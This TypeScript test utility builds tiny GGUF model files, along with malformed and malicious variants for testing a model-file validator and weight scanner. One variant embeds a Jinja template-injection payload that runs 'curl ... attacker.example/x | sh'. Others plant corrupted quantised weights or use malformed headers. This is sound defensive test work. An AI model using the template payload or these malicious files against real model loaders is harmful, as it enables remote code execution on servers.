// Test utility (issue 4 §5): writes tiny but valid llama-architecture GGUF v3 models with random
// weights, a byte-fallback SentencePiece ("llama") vocabulary and a ChatML chat template, plus broken
// and malicious variants, one per rejection path of inspectGguf. Nothing is downloaded.
//
// Matrix weights may be F32, F16 or quantised as Q8_0, Q4_0, Q4_1, Q5_0, Q5_1, Q2_K, Q3_K, Q4_K,
// Q5_K, Q6_K, IQ4_NL or IQ4_XS with ggml's block layouts (ggml-common.h) and scales chosen as
// ggml's reference quantisers do (`quantizeRow`; the newer ones in ggufQuantisers.ts), or as
// IQ2_XXS blocks that are valid but hold arbitrary codes (a type the scan cannot read); the norms
// stay F32. Types of 256-element blocks need rows that are multiples of 256 (defaults nEmbd 256,
// nFf 512).
// `weightAttack` plants one of four malicious block patterns in a quantised tensor (default
// blk.0.attn_q.weight): a NaN scale, zeroed blocks, a giant scale or constant weights. These
// files pass inspectGguf (they are structurally valid); the static scan must flag them.
//
// Layout follows the GGUF spec exactly (little-endian): magic "GGUF", u32 version, u64 tensor_count,
// u64 kv_count; each KV = gguf string key (u64 length + bytes), u32 value type, value; each tensor
// info = name, u32 n_dims, u64 dims[n_dims] (ne0 = innermost), u32 ggml type, u64 offset relative to
// the data section; zero padding to general.alignment (32); then the tensor data, each tensor at an
// aligned offset.
import { writeFile } from 'node:fs/promises';
import type { GgufRejection } from '../gguf/types.js';
import {
  opaqueIQ2_XXS,
  quantIQ4_NL,
  quantIQ4_XS,
  quantQ2_K,
  quantQ3_K,
  quantQ4_1,
  quantQ5_0,
  quantQ5_1,
  quantQ5_K,
  type BlockQuantiser,
} from './ggufQuantisers.js';
import { fromHalf, roundf, toHalf } from './half.js';

export { toHalf } from './half.js';

export const CHATML_TEMPLATE =
  "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}";

export const MALICIOUS_TEMPLATE =
  "{{ cycler.__init__.__globals__.os.popen('curl -s http://attacker.example/x | sh').read() }}" +
  CHATML_TEMPLATE;

/** Every broken or malicious variant and the rejection inspectGguf must give it. */
export const GGUF_VARIANT_REJECTIONS = {
  bad_magic: 'bad_magic',
  unsupported_version: 'unsupported_version',
  big_endian: 'unsupported_version',
  truncated_header: 'truncated',
  truncated_data: 'tensor_out_of_bounds',
  data_offset_out_of_bounds: 'data_offset_out_of_bounds',
  overlapping_tensors: 'tensors_overlap',
  misaligned_offset: 'misaligned_tensor',
  out_of_bounds: 'tensor_out_of_bounds',
  unknown_type: 'unknown_ggml_type',
  block_size_mismatch: 'block_size_mismatch',
  huge_string: 'string_too_long',
  huge_array: 'array_too_long',
  too_many_kvs: 'too_many_kvs',
  too_many_tensors: 'too_many_tensors',
  no_tensors: 'no_tensors',
  long_key: 'key_too_long',
  empty_key: 'empty_key',
  bad_utf8_key: 'invalid_utf8',
  duplicate_key: 'duplicate_key',
  nested_array: 'array_nesting_too_deep',
  unknown_value_type: 'unknown_value_type',
  invalid_bool: 'invalid_bool',
  bad_alignment: 'bad_alignment',
  bad_arch_type: 'bad_metadata_type',
  duplicate_tensor_name: 'duplicate_tensor_name',
  long_tensor_name: 'tensor_name_too_long',
  zero_dimension: 'zero_dimension',
  rank_too_high: 'bad_rank',
  dimension_overflow: 'dimension_overflow',
  chat_template_too_long: 'chat_template_too_long',
  malicious_template: 'suspicious_chat_template',
} as const satisfies Record<string, GgufRejection>;

export type GgufBrokenVariant = keyof typeof GGUF_VARIANT_REJECTIONS;
export type GgufVariant = 'valid' | GgufBrokenVariant;

/** Matrix weight types the writer can produce. */
export const TINY_WEIGHT_TYPES = [
  'f32',
  'f16',
  'q8_0',
  'q4_0',
  'q4_1',
  'q5_0',
  'q5_1',
  'q2_k',
  'q3_k',
  'q4_k',
  'q5_k',
  'q6_k',
  'iq4_nl',
  'iq4_xs',
  'iq2_xxs',
] as const;
export type TinyWeightType = (typeof TINY_WEIGHT_TYPES)[number];

/** Malicious block patterns for quantised tensors (see the header). */
export const GGUF_WEIGHT_ATTACKS = [
  'nan_scale',
  'zeroed_blocks',
  'giant_scale',
  'constant_weights',
] as const;
export type GgufWeightAttack = (typeof GGUF_WEIGHT_ATTACKS)[number];

export interface TinyLlamaGgufOptions {
  /** PRNG seed for the weights (default 1). */
  seed?: number;
  /** Matrix weight type; norms are always F32 (default 'f32'). */
  weightType?: TinyWeightType;
  /** A malicious block pattern in one quantised tensor (needs a quantised weightType). */
  weightAttack?: GgufWeightAttack;
  /** The tensor the attack is planted in (default blk.0.attn_q.weight). */
  attackTensor?: string;
  nEmbd?: number;
  nLayer?: number;
  nHead?: number;
  nHeadKv?: number;
  nFf?: number;
  contextLength?: number;
  /** Defaults to a ChatML template. */
  chatTemplate?: string;
  name?: string;
  version?: 2 | 3;
  variant?: GgufVariant;
  /**
   * 'silent': output.weight all zeros, so every logit is equal and greedy decoding picks the same
   * token at every step whatever the prompt (with node-llama-cpp and this tokenizer: the end of
   * text at once, so every answer is empty). A silent model for the behavioural no-signal rule.
   * 'endless': output.weight zero but for two byte tokens ('t' and 'o') whose rows are +1 and -1
   * everywhere, so one of them always has the highest logit and greedy decoding never picks an
   * end token: an answer runs to max_tokens (what tests of long generations need).
   * Default 'random'. The PRNG is drawn the same either way, so the other tensors match the seed's.
   */
  output?: 'random' | 'silent' | 'endless';
}

export type TinyTensorType = 'F32' | 'F16' | QuantType;

export interface TinyGgufTensor {
  name: string;
  type: TinyTensorType;
  dims: number[];
  offset: number;
  sizeBytes: number;
}

export interface TinyGguf {
  buffer: Buffer;
  dataOffset: number;
  tensors: TinyGgufTensor[];
  vocabSize: number;
  variant: GgufVariant;
  /** The rejection inspectGguf must report; undefined for 'valid'. */
  expected: GgufRejection | undefined;
}

// --- encoding helpers ---------------------------------------------------------------------------

const T = {
  U8: 0,
  I8: 1,
  U16: 2,
  I16: 3,
  U32: 4,
  I32: 5,
  F32: 6,
  BOOL: 7,
  STRING: 8,
  ARRAY: 9,
  U64: 10,
  I64: 11,
  F64: 12,
} as const;

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
}
function u64(n: number | bigint): Buffer {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(BigInt(n));
  return b;
}
function ggufString(s: string | Buffer): Buffer {
  const bytes = typeof s === 'string' ? Buffer.from(s, 'utf8') : s;
  return Buffer.concat([u64(bytes.length), bytes]);
}

interface Kv {
  key: Buffer;
  /** u32 type followed by the encoded value. */
  value: Buffer;
}

const kv = (key: string | Buffer, type: number, body: Buffer): Kv => ({
  key: typeof key === 'string' ? Buffer.from(key, 'utf8') : key,
  value: Buffer.concat([u32(type), body]),
});
const kvStr = (key: string, s: string): Kv => kv(key, T.STRING, ggufString(s));
const kvU32 = (key: string, n: number): Kv => kv(key, T.U32, u32(n));
const kvF32 = (key: string, x: number): Kv => {
  const b = Buffer.alloc(4);
  b.writeFloatLE(x);
  return kv(key, T.F32, b);
};
const kvBool = (key: string, v: boolean): Kv => kv(key, T.BOOL, Buffer.from([v ? 1 : 0]));
function kvArrStr(key: string, items: string[]): Kv {
  return kv(
    key,
    T.ARRAY,
    Buffer.concat([u32(T.STRING), u64(items.length), ...items.map((s) => ggufString(s))]),
  );
}
function kvArrF32(key: string, items: number[]): Kv {
  const b = Buffer.alloc(items.length * 4);
  items.forEach((x, i) => b.writeFloatLE(x, i * 4));
  return kv(key, T.ARRAY, Buffer.concat([u32(T.F32), u64(items.length), b]));
}
function kvArrI32(key: string, items: number[]): Kv {
  const b = Buffer.alloc(items.length * 4);
  items.forEach((x, i) => b.writeInt32LE(x, i * 4));
  return kv(key, T.ARRAY, Buffer.concat([u32(T.I32), u64(items.length), b]));
}

/** mulberry32: small, fast, seeded. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// --- model --------------------------------------------------------------------------------------

interface TensorDraft {
  name: string;
  type: TinyTensorType;
  dims: number[];
  data: Buffer;
}

// --- quantisation (ggml's reference quantisers, ggml-quants.c) ----------------------------------

/** ggml type ids. */
export const GGML_TYPE_IDS: Readonly<Record<TinyTensorType, number>> = {
  F32: 0,
  F16: 1,
  Q4_0: 2,
  Q4_1: 3,
  Q5_0: 6,
  Q5_1: 7,
  Q8_0: 8,
  Q2_K: 10,
  Q3_K: 11,
  Q4_K: 12,
  Q5_K: 13,
  Q6_K: 14,
  IQ2_XXS: 16,
  IQ4_NL: 20,
  IQ4_XS: 23,
};

/** Block geometry: elements per block, bytes per block, byte offset of the f16 scale d. */
export const QUANT_BLOCKS = {
  Q8_0: { blockSize: 32, typeSize: 34, dAt: 0 },
  Q4_0: { blockSize: 32, typeSize: 18, dAt: 0 },
  Q4_1: { blockSize: 32, typeSize: 20, dAt: 0 },
  Q5_0: { blockSize: 32, typeSize: 22, dAt: 0 },
  Q5_1: { blockSize: 32, typeSize: 24, dAt: 0 },
  Q2_K: { blockSize: 256, typeSize: 84, dAt: 80 },
  Q3_K: { blockSize: 256, typeSize: 110, dAt: 108 },
  Q4_K: { blockSize: 256, typeSize: 144, dAt: 0 },
  Q5_K: { blockSize: 256, typeSize: 176, dAt: 0 },
  Q6_K: { blockSize: 256, typeSize: 210, dAt: 208 },
  IQ4_NL: { blockSize: 32, typeSize: 18, dAt: 0 },
  IQ4_XS: { blockSize: 256, typeSize: 136, dAt: 0 },
  IQ2_XXS: { blockSize: 256, typeSize: 66, dAt: 0 },
} as const satisfies Readonly<Record<string, { blockSize: number; typeSize: number; dAt: number }>>;
export type QuantType = keyof typeof QUANT_BLOCKS;

function quantQ8_0(x: ArrayLike<number>, o: number, out: Buffer, at: number): void {
  let amax = 0;
  for (let j = 0; j < 32; j++) amax = Math.max(amax, Math.abs(x[o + j] ?? 0));
  const d = amax / 127;
  const id = d !== 0 ? 1 / d : 0;
  out.writeUInt16LE(toHalf(d), at);
  for (let j = 0; j < 32; j++) out.writeInt8(roundf((x[o + j] ?? 0) * id), at + 2 + j);
}

function quantQ4_0(x: ArrayLike<number>, o: number, out: Buffer, at: number): void {
  let amax = 0;
  let max = 0;
  for (let j = 0; j < 32; j++) {
    const v = x[o + j] ?? 0;
    if (Math.abs(v) > amax) {
      amax = Math.abs(v);
      max = v;
    }
  }
  const d = max / -8;
  const id = d !== 0 ? 1 / d : 0;
  out.writeUInt16LE(toHalf(d), at);
  for (let j = 0; j < 16; j++) {
    const q0 = Math.min(15, Math.trunc((x[o + j] ?? 0) * id + 8.5));
    const q1 = Math.min(15, Math.trunc((x[o + 16 + j] ?? 0) * id + 8.5));
    out[at + 2 + j] = q0 | (q1 << 4);
  }
}

function quantQ4_K(x: ArrayLike<number>, o: number, out: Buffer, at: number): void {
  // Sub-block j of 32: range [min(0, x), max x] over 15 steps; 6-bit scale and min per sub-block.
  const scales: number[] = [];
  const mins: number[] = [];
  for (let j = 0; j < 8; j++) {
    let mn = 0;
    let mx = -Infinity;
    for (let l = 0; l < 32; l++) {
      const v = x[o + 32 * j + l] ?? 0;
      mn = Math.min(mn, v);
      mx = Math.max(mx, v);
    }
    scales.push(Math.max(0, mx - mn) / 15);
    mins.push(-mn);
  }
  const maxScale = Math.max(...scales);
  const maxMin = Math.max(...mins);
  const invScale = maxScale > 0 ? 63 / maxScale : 0;
  const invMin = maxMin > 0 ? 63 / maxMin : 0;
  const ls = scales.map((v) => Math.min(63, roundf(invScale * v)));
  const lm = mins.map((v) => Math.min(63, roundf(invMin * v)));
  const packed = Buffer.alloc(12);
  for (let j = 0; j < 8; j++) {
    const l = ls[j] ?? 0;
    const m = lm[j] ?? 0;
    if (j < 4) {
      packed[j] = l;
      packed[j + 4] = m;
    } else {
      packed[j + 4] = (l & 0xf) | ((m & 0xf) << 4);
      packed[j - 4] = (packed[j - 4] ?? 0) | ((l >>> 4) << 6);
      packed[j] = (packed[j] ?? 0) | ((m >>> 4) << 6);
    }
  }
  const dh = toHalf(maxScale / 63);
  const dminh = toHalf(maxMin / 63);
  out.writeUInt16LE(dh, at);
  out.writeUInt16LE(dminh, at + 2);
  packed.copy(out, at + 4);
  const d = fromHalf(dh);
  const dmin = fromHalf(dminh);
  const L = new Uint8Array(256);
  for (let j = 0; j < 8; j++) {
    const sd = d * (ls[j] ?? 0);
    if (sd === 0) continue;
    const dm = dmin * (lm[j] ?? 0);
    for (let l = 0; l < 32; l++) {
      L[32 * j + l] = Math.max(0, Math.min(15, roundf(((x[o + 32 * j + l] ?? 0) + dm) / sd)));
    }
  }
  for (let j = 0; j < 256; j += 64) {
    for (let l = 0; l < 32; l++) {
      out[at + 16 + j / 2 + l] = (L[j + l] ?? 0) | ((L[j + l + 32] ?? 0) << 4);
    }
  }
}

function quantQ6_K(x: ArrayLike<number>, o: number, out: Buffer, at: number): void {
  // Sub-block ib of 16: the value of largest magnitude maps to −32; int8 scales over a shared d.
  const scales: number[] = [];
  for (let ib = 0; ib < 16; ib++) {
    let amax = 0;
    let max = 0;
    for (let l = 0; l < 16; l++) {
      const v = x[o + 16 * ib + l] ?? 0;
      if (Math.abs(v) > amax) {
        amax = Math.abs(v);
        max = v;
      }
    }
    scales.push(max / -32);
  }
  let maxScale = 0;
  for (const sc of scales) if (Math.abs(sc) > Math.abs(maxScale)) maxScale = sc;
  const L = new Uint8Array(256).fill(32);
  if (maxScale !== 0) {
    const iscale = -128 / maxScale;
    const dh = toHalf(1 / iscale);
    out.writeUInt16LE(dh, at + 208);
    const d = fromHalf(dh);
    for (let ib = 0; ib < 16; ib++) {
      const sc = Math.max(-128, Math.min(127, roundf(iscale * (scales[ib] ?? 0))));
      out.writeInt8(sc, at + 192 + ib);
      const sd = d * sc;
      if (sd === 0) continue;
      for (let l = 0; l < 16; l++) {
        const q = roundf((x[o + 16 * ib + l] ?? 0) / sd);
        L[16 * ib + l] = Math.max(-32, Math.min(31, q)) + 32;
      }
    }
  } else {
    out.writeUInt16LE(0, at + 208);
    out.fill(0, at + 192, at + 208);
  }
  for (let n = 0; n < 2; n++) {
    const j = 128 * n;
    const ql = at + 64 * n;
    const qh = at + 128 + 32 * n;
    for (let l = 0; l < 32; l++) {
      const q1 = L[j + l] ?? 0;
      const q2 = L[j + l + 32] ?? 0;
      const q3 = L[j + l + 64] ?? 0;
      const q4 = L[j + l + 96] ?? 0;
      out[ql + l] = (q1 & 0xf) | ((q3 & 0xf) << 4);
      out[ql + l + 32] = (q2 & 0xf) | ((q4 & 0xf) << 4);
      out[qh + l] = (q1 >>> 4) | ((q2 >>> 4) << 2) | ((q3 >>> 4) << 4) | ((q4 >>> 4) << 6);
    }
  }
}

const QUANTISERS: Record<QuantType, BlockQuantiser> = {
  Q8_0: quantQ8_0,
  Q4_0: quantQ4_0,
  Q4_1: quantQ4_1,
  Q5_0: quantQ5_0,
  Q5_1: quantQ5_1,
  Q2_K: quantQ2_K,
  Q3_K: quantQ3_K,
  Q4_K: quantQ4_K,
  Q5_K: quantQ5_K,
  Q6_K: quantQ6_K,
  IQ4_NL: quantIQ4_NL,
  IQ4_XS: quantIQ4_XS,
  IQ2_XXS: opaqueIQ2_XXS,
};

/** Quantises `values` (a multiple of the block size) into ggml blocks of `type`. */
export function quantizeRow(type: QuantType, values: ArrayLike<number>): Buffer {
  const { blockSize, typeSize } = QUANT_BLOCKS[type];
  if (values.length % blockSize !== 0)
    throw new RangeError(`${type} needs a multiple of ${blockSize} values`);
  const blocks = values.length / blockSize;
  const out = Buffer.alloc(blocks * typeSize);
  for (let b = 0; b < blocks; b++) QUANTISERS[type](values, b * blockSize, out, b * typeSize);
  return out;
}

/** Plants `attack` in the quantised data of one tensor (in place). */
export function plantWeightAttack(type: QuantType, data: Buffer, attack: GgufWeightAttack): void {
  const { typeSize, dAt } = QUANT_BLOCKS[type];
  const blocks = data.length / typeSize;
  if (blocks < 8) throw new RangeError('the attacked tensor needs at least 8 blocks');
  const target = Math.floor(blocks / 3);
  switch (attack) {
    case 'nan_scale':
      data.writeUInt16LE(0x7e00, target * typeSize + dAt);
      break;
    case 'giant_scale':
      data.writeUInt16LE(toHalf(30000), target * typeSize + dAt);
      break;
    case 'zeroed_blocks':
      data.fill(0, 0, Math.floor((blocks * 3) / 4) * typeSize);
      break;
    case 'constant_weights':
      // Written by the caller: the tensor is quantised from a constant.
      break;
  }
}

interface TensorInfoDraft {
  name: Buffer;
  dims: bigint[];
  type: number;
  offset: bigint;
}

function tokenizer(): { tokens: string[]; scores: number[]; types: number[] } {
  const tokens = ['<unk>', '<s>', '</s>'];
  const types = [2, 3, 3]; // UNKNOWN, CONTROL, CONTROL
  for (let b = 0; b < 256; b++) {
    tokens.push(`<0x${b.toString(16).toUpperCase().padStart(2, '0')}>`);
    types.push(6); // BYTE
  }
  tokens.push('<|im_start|>', '<|im_end|>');
  types.push(3, 3);
  return { tokens, scores: tokens.map(() => 0), types };
}

/** llama.cpp `llama_ftype` of a model whose matrices are all of one type. */
const LLAMA_FILE_TYPES: Record<TinyTensorType, number> = {
  F32: 0,
  F16: 1,
  Q4_0: 2,
  Q4_1: 3,
  Q8_0: 7,
  Q5_0: 8,
  Q5_1: 9,
  Q2_K: 10,
  Q3_K: 11, // MOSTLY_Q3_K_S
  Q4_K: 14, // MOSTLY_Q4_K_S
  Q5_K: 16, // MOSTLY_Q5_K_S
  Q6_K: 18,
  IQ2_XXS: 19,
  IQ4_NL: 25,
  IQ4_XS: 30,
};

/** Builds the file in memory. */
export function buildTinyLlamaGguf(options: TinyLlamaGgufOptions = {}): TinyGguf {
  const variant: GgufVariant = options.variant ?? 'valid';
  const wType: TinyTensorType = (options.weightType ?? 'f32').toUpperCase() as TinyTensorType;
  const quantised = wType !== 'F32' && wType !== 'F16';
  const kQuant = quantised && QUANT_BLOCKS[wType].blockSize === 256;
  const nEmbd = options.nEmbd ?? (kQuant ? 256 : 64);
  const nLayer = options.nLayer ?? 2;
  const nHead = options.nHead ?? 4;
  const nHeadKv = options.nHeadKv ?? nHead;
  const nFf = options.nFf ?? (kQuant ? 512 : 128);
  const ctx = options.contextLength ?? 256;
  const headDim = nEmbd / nHead;
  if (quantised) {
    const { blockSize } = QUANT_BLOCKS[wType];
    if (nEmbd % blockSize !== 0 || nFf % blockSize !== 0)
      throw new RangeError(`${wType} needs nEmbd and nFf to be multiples of ${blockSize}`);
  }
  if (options.weightAttack !== undefined && !quantised)
    throw new RangeError('weight attacks need a quantised weightType');
  const attackTensor = options.attackTensor ?? 'blk.0.attn_q.weight';
  const rand = mulberry32(options.seed ?? 1);
  const gauss = (): number => {
    const u = rand() || 1e-12;
    return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * rand());
  };
  const tok = tokenizer();
  const nVocab = tok.tokens.length;

  const alignment = 32;
  let template = options.chatTemplate ?? CHATML_TEMPLATE;
  if (variant === 'malicious_template') template = MALICIOUS_TEMPLATE;
  if (variant === 'chat_template_too_long') template = 'a'.repeat(1_000_001);
  let name = options.name ?? 'tiny-llama-test';

  const matrix = (
    tname: string,
    dims: number[],
    std: number,
    rows?: (values: Float64Array) => void,
  ): TensorDraft => {
    const n = dims.reduce((a, b) => a * b, 1);
    const values = new Float64Array(n);
    const attacked = options.weightAttack !== undefined && tname === attackTensor;
    for (let i = 0; i < n; i++) {
      const x = gauss() * std;
      values[i] = attacked && options.weightAttack === 'constant_weights' ? 0.05 : x;
    }
    rows?.(values);
    let data: Buffer;
    if (wType === 'F32' || wType === 'F16') {
      data = Buffer.alloc(n * (wType === 'F16' ? 2 : 4));
      for (let i = 0; i < n; i++) {
        if (wType === 'F16') data.writeUInt16LE(toHalf(values[i] ?? 0), i * 2);
        else data.writeFloatLE(values[i] ?? 0, i * 4);
      }
    } else {
      data = quantizeRow(wType, values);
      if (attacked && options.weightAttack !== undefined)
        plantWeightAttack(wType, data, options.weightAttack);
    }
    return { name: tname, type: wType, dims, data };
  };
  const norm = (tname: string): TensorDraft => {
    const data = Buffer.alloc(nEmbd * 4);
    for (let i = 0; i < nEmbd; i++) data.writeFloatLE(1 + gauss() * 0.01, i * 4);
    return { name: tname, type: 'F32', dims: [nEmbd], data };
  };

  const drafts: TensorDraft[] = [matrix('token_embd.weight', [nEmbd, nVocab], 0.02)];
  for (let l = 0; l < nLayer; l++) {
    const p = `blk.${l}.`;
    drafts.push(
      norm(`${p}attn_norm.weight`),
      matrix(`${p}attn_q.weight`, [nEmbd, headDim * nHead], 0.02),
      matrix(`${p}attn_k.weight`, [nEmbd, headDim * nHeadKv], 0.02),
      matrix(`${p}attn_v.weight`, [nEmbd, headDim * nHeadKv], 0.02),
      matrix(`${p}attn_output.weight`, [headDim * nHead, nEmbd], 0.02),
      norm(`${p}ffn_norm.weight`),
      matrix(`${p}ffn_gate.weight`, [nEmbd, nFf], 0.02),
      matrix(`${p}ffn_up.weight`, [nEmbd, nFf], 0.02),
      matrix(`${p}ffn_down.weight`, [nFf, nEmbd], 0.02),
    );
  }
  const outputStd = options.output === 'silent' || options.output === 'endless' ? 0 : 0.02;
  // Byte tokens follow the three specials: byte b is token 3 + b.
  const endless = (values: Float64Array) => {
    for (const [token, sign] of [
      [3 + 0x74, 1],
      [3 + 0x6f, -1],
    ] as const)
      values.fill(sign, token * nEmbd, (token + 1) * nEmbd);
  };
  drafts.push(
    norm('output_norm.weight'),
    matrix(
      'output.weight',
      [nEmbd, nVocab],
      outputStd,
      options.output === 'endless' ? endless : undefined,
    ),
  );

  // Data layout: each tensor at an aligned offset.
  const tensors: TinyGgufTensor[] = [];
  let cursor = 0;
  for (const d of drafts) {
    cursor = Math.ceil(cursor / alignment) * alignment;
    tensors.push({
      name: d.name,
      type: d.type,
      dims: d.dims,
      offset: cursor,
      sizeBytes: d.data.length,
    });
    cursor += d.data.length;
  }
  const data = Buffer.alloc(cursor);
  drafts.forEach((d, i) => d.data.copy(data, tensors[i]?.offset ?? 0));

  const infos: TensorInfoDraft[] = tensors.map((t, i) => ({
    name: Buffer.from(t.name, 'utf8'),
    dims: t.dims.map(BigInt),
    type: GGML_TYPE_IDS[drafts[i]?.type ?? 'F32'],
    offset: BigInt(t.offset),
  }));

  const build = (): { header: Buffer; dataOffset: number; bodyLength: number } => {
    const kvs: Kv[] = [
      kvStr('general.architecture', 'llama'),
      kvStr('general.name', name),
      kvU32('general.file_type', LLAMA_FILE_TYPES[wType]),
      kvU32('general.quantization_version', 2),
      kvU32('llama.context_length', ctx),
      kvU32('llama.embedding_length', nEmbd),
      kvU32('llama.block_count', nLayer),
      kvU32('llama.feed_forward_length', nFf),
      kvU32('llama.rope.dimension_count', headDim),
      kvF32('llama.rope.freq_base', 10000),
      kvU32('llama.attention.head_count', nHead),
      kvU32('llama.attention.head_count_kv', nHeadKv),
      kvF32('llama.attention.layer_norm_rms_epsilon', 1e-5),
      kvU32('llama.vocab_size', nVocab),
      kvStr('tokenizer.ggml.model', 'llama'),
      kvArrStr('tokenizer.ggml.tokens', tok.tokens),
      kvArrF32('tokenizer.ggml.scores', tok.scores),
      kvArrI32('tokenizer.ggml.token_type', tok.types),
      kvU32('tokenizer.ggml.bos_token_id', 1),
      kvU32('tokenizer.ggml.eos_token_id', 2),
      kvU32('tokenizer.ggml.unknown_token_id', 0),
      kvBool('tokenizer.ggml.add_bos_token', true),
      kvBool('tokenizer.ggml.add_eos_token', false),
      kvStr('tokenizer.chat_template', template),
    ];
    let kvCount: bigint | undefined;
    let tensorCount = BigInt(infos.length);
    const put = (i: number, entry: Kv): void => {
      kvs[i] = entry;
    };
    switch (variant) {
      case 'huge_string':
        put(1, kv('general.name', T.STRING, u64(1n << 40n)));
        break;
      case 'huge_array':
        put(
          15,
          kv('tokenizer.ggml.tokens', T.ARRAY, Buffer.concat([u32(T.STRING), u64(1n << 40n)])),
        );
        break;
      case 'too_many_kvs':
        kvCount = 10_001n;
        break;
      case 'too_many_tensors':
        tensorCount = 200_001n;
        break;
      case 'no_tensors':
        tensorCount = 0n;
        break;
      case 'long_key':
        kvs.push(kvU32(`x.${'k'.repeat(1024)}`, 1));
        break;
      case 'empty_key':
        kvs.push(kvU32('', 1));
        break;
      case 'bad_utf8_key':
        kvs.push(kv(Buffer.from([0x67, 0xff, 0xfe]), T.U32, u32(1)));
        break;
      case 'duplicate_key':
        kvs.push(kvStr('general.name', 'again'));
        break;
      case 'nested_array':
        kvs.push(
          kv(
            'test.nested',
            T.ARRAY,
            Buffer.concat([u32(T.ARRAY), u64(1), u32(T.U32), u64(1), u32(7)]),
          ),
        );
        break;
      case 'unknown_value_type':
        kvs.push(kv('test.unknown', 13, u32(0)));
        break;
      case 'invalid_bool':
        put(21, kv('tokenizer.ggml.add_bos_token', T.BOOL, Buffer.from([2])));
        break;
      case 'bad_alignment':
        kvs.push(kvU32('general.alignment', 48));
        break;
      case 'bad_arch_type':
        put(0, kvU32('general.architecture', 7));
        break;
      default:
        break;
    }
    kvCount ??= BigInt(kvs.length);

    const version = variant === 'unsupported_version' ? 4 : (options.version ?? 3);
    const versionBuf = variant === 'big_endian' ? Buffer.from([0, 0, 0, 3]) : u32(version);
    const parts: Buffer[] = [
      Buffer.from(variant === 'bad_magic' ? 'GGUG' : 'GGUF', 'latin1'),
      versionBuf,
      u64(tensorCount),
      u64(kvCount),
    ];
    for (const e of kvs) parts.push(ggufString(e.key), e.value);
    for (const t of infos) {
      parts.push(ggufString(t.name), u32(t.dims.length));
      for (const d of t.dims) parts.push(u64(d));
      parts.push(u32(t.type), u64(t.offset));
    }
    const body = Buffer.concat(parts);
    const dataOffset = Math.ceil(body.length / alignment) * alignment;
    return {
      header: Buffer.concat([body, Buffer.alloc(dataOffset - body.length)]),
      dataOffset,
      bodyLength: body.length,
    };
  };

  // Tensor-info mutations.
  const first = infos[0];
  const second = infos[1];
  const last = infos[infos.length - 1];
  const norm0 = infos.find((t) => t.name.toString().endsWith('attn_norm.weight'));
  if (!first || !second || !last || !norm0) throw new Error('tiny model needs tensors');
  switch (variant) {
    case 'overlapping_tensors':
      second.offset = first.offset;
      break;
    case 'misaligned_offset':
      second.offset += 8n;
      break;
    case 'out_of_bounds':
      last.offset += 1n << 20n;
      break;
    case 'unknown_type':
      second.type = 4; // removed Q4_2
      break;
    case 'block_size_mismatch':
      norm0.type = 12; // Q4_K: 256-element blocks, but the row has nEmbd elements
      break;
    case 'duplicate_tensor_name':
      second.name = Buffer.from(first.name);
      break;
    case 'long_tensor_name':
      second.name = Buffer.from(`blk.0.${'x'.repeat(4096)}`);
      break;
    case 'zero_dimension':
      second.dims[0] = 0n;
      break;
    case 'rank_too_high':
      norm0.dims = [...norm0.dims, 1n, 1n, 1n, 1n];
      break;
    case 'dimension_overflow':
      second.dims = [1n << 32n, 1n << 32n];
      break;
    default:
      break;
  }

  let built = build();
  if (variant === 'data_offset_out_of_bounds') {
    // The data section starts at the header end rounded up: end the file at an unaligned header end.
    while (built.bodyLength % alignment === 0) {
      name += ' ';
      built = build();
    }
  }
  let buffer = Buffer.concat([built.header, data]);
  if (variant === 'truncated_header') buffer = buffer.subarray(0, Math.floor(built.dataOffset / 2));
  if (variant === 'truncated_data') buffer = buffer.subarray(0, buffer.length - 100);
  if (variant === 'data_offset_out_of_bounds') {
    buffer = buffer.subarray(0, built.bodyLength);
  }

  return {
    buffer: Buffer.from(buffer),
    dataOffset: built.dataOffset,
    tensors,
    vocabSize: nVocab,
    variant,
    expected: variant === 'valid' ? undefined : GGUF_VARIANT_REJECTIONS[variant],
  };
}

/** Writes a tiny llama GGUF (or one of its broken variants) to `path`. */
export async function writeTinyLlamaGguf(
  path: string,
  options: TinyLlamaGgufOptions = {},
): Promise<TinyGguf & { path: string }> {
  const built = buildTinyLlamaGguf(options);
  await writeFile(path, built.buffer);
  return { ...built, path };
}
